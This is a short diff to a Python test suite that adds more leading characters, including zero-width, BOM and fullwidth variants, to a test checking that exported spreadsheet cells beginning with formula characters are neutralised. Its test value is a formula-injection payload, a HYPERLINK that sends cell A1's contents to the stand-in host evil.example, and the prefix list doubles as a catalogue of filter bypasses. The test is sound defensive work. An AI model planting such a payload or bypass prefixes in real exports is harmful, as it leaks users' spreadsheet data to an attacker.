@@ -116,7 +116,10 @@ def test_messages_round_trip_exactly(tmp_path: Path, message: str) -> None:
     assert rows[2][1:3] == ["8", "after"]  # the next record starts where it should
 
 
-@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize(
+    "lead",
+    ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\n=", "\u00a0=", "\ufeff=", "\u200b+", " \u3000@", "\uff1d", "\uff0b", "\u200b\uff0d"],
+)
 @pytest.mark.parametrize("column", ["conversation", "message", "flag", "user"])
 def test_formula_leading_cells_are_neutralised(tmp_path: Path, lead: str, column: str) -> None:
     value = f"{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
